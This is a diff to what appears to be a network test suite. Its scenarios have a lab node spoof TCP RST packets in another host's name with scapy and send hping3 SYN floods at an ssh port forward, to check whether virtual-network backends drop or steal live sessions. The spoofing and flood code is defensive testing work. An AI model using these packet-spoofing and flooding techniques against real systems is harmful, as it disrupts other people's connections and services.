@@ -39,15 +39,13 @@ class Talk:
 def _talk(s: Stage, caller: Node, callee: Node, address: str) -> Iterator[Talk]:
     """`caller` has a connection to a service of `callee` that echoes, by `address`."""
     with callee.listen("tcp", SERVED) as heard, ExitStack() as open_:
-        with caller.watch(_port(s, caller)) as near, callee.watch(_port(s, callee)) as far:
+        with caller.watch() as near, callee.watch() as far:
             call = open_.enter_context(caller.call(address, SERVED))
             s.control(f"{callee.name} echoes what {caller.name} says", call.echoes(s.mark[:8]))
-        yield Talk(call, side(near, call.port), side(far, SERVED), heard)
-
-
-def _port(s: Stage, node: Node) -> str:
-    """Where a node's conversations are seen: the host's own addresses are on another interface in Xen 1's backend."""
-    return "xenbr0" if node is s.dom0 and s.backend.name == "xen1" else "eth0"
+        callees = side(far, SERVED)
+        # What domain 0 says is not translated, and leaves by another interface with each backend.
+        callers = callees.other if caller is s.dom0 else side(near, call.port)
+        yield Talk(call, callers, callees, heard)
 
 
 def _to_db(s: Stage, packet: Packet) -> Packet:
@@ -162,22 +160,28 @@ def hosts_conversation_with_a_guest(s: Stage) -> list[str]:
         return _ended(s, talk, lambda: s.db.send(Ether(src=s.db.mac, dst=s.gateway_mac("db")) / honest))
 
 
+def _crowd(s: Stage, number: int, first_port: int, forward: int) -> None:
+    """lan2 knocks at a forward, each time from another port; its kernel refuses what answers."""
+    ports = ("-s", str(first_port), "-p", str(forward))
+    s.lan2.run("timeout", "4", "hping3", "-q", "-S", "-c", str(number), "-i", "u400", *ports, s.outside)
+
+
 @attack("hijack", tool="hping3", falls="vfr", leaves=True)
 def blind_reset_and_a_crowd(s: Stage) -> list[str]:
     """lan2 has the backend forget lan1's ssh session to db.
 
     lan2 does not know the sequence numbers. It sends a RST in lan1's name with a wrong one, which db's kernel
-    ignores but a router that does not track them may believe; then it comes with a crowd of connections
-    to the same forward, for which what seems to be over must make room. lan1's session must go on.
+    ignores but a router that does not track them may believe; before and after comes a crowd of connections to the
+    same forward, for which what seems to be over must make room. lan1's session must go on.
     """
     forward = s.guest("db").forward or 0
     with s.lan1.call(s.outside, forward) as call, s.db.watch() as seen:
         s.control("lan1 hears db's ssh", call.greeting.startswith(b"SSH-"))
+        _crowd(s, 1200, 20000, forward)
         wrong = TCP(sport=call.port, dport=forward, flags="R", seq=0x12345678)
         host = s.lan2.knows(s.outside)
         s.lan2.send(Ether(src=s.lan2.mac, dst=host) / IP(src=s.address("lan1"), dst=s.outside) / wrong)
-        crowd = ("-q", "-S", "-c", "1500", "-i", "u500", "-s", "20000", "-p", str(forward), s.outside)
-        s.lan2.run("timeout", "4", "hping3", *crowd)
+        _crowd(s, 600, 30000, forward)
         try:
             answer = bytes.fromhex(s.lan1.ask("say", number=call.number, data=b"SSH-2.0-lan1\r\n".hex()))
         except NodeError as error:
@@ -185,6 +189,25 @@ def blind_reset_and_a_crowd(s: Stage) -> list[str]:
     knocks = seen.having(lambda p: TCP in p and p[IP].src == s.address("lan2") and p[TCP].flags == "S")
     s.control("the crowd knocks at db's ssh", len(knocks) > 100)
     return [] if b"curve25519" in answer else [f"db no longer answers lan1: {answer!r}"]
+
+
+@attack("hijack", tool="scapy", falls="vfr", leaves=True)
+def blind_reset_and_everyday_use(s: Stage) -> list[str]:
+    """lan2 has the backend take the outside port of db's living conversation.
+
+    One RST in lan1's name with a wrong sequence number, which db's and lan1's kernels never believe. Then db does its
+    everyday business, a hundred short connections to lan1. Its first conversation, silent meanwhile, must go on.
+    """
+    lan1 = s.address("lan1")
+    with _talk(s, s.db, s.lan1, lan1) as talk, s.db.watch() as seen:
+        wrong = Side(lan1, SERVED, s.outside, talk.callee.peer_port, seq=0x12345678, ack=0).says("R")
+        s.lan2.send(Ether(src=s.lan2.mac, dst=s.lan2.knows(s.outside)) / wrong)
+        s.say("db: connects to lan1 a hundred times")
+        answers = [bytes.fromhex(s.db.ask("tcp", address=lan1, port=ECHO, own_port=0, timeout=1)) for _ in range(100)]
+        s.control("all of db's connections are answered", all(answers))
+        goes_on = talk.call.echoes()
+    s.control("db's kernel did not take the RST", goes_on or seen.own)
+    return [] if goes_on else ["db's conversation with lan1 is broken"]
 
 
 @attack("hijack", tool="scapy", falls=("bridge", "bridge-filtered", "xen1"))
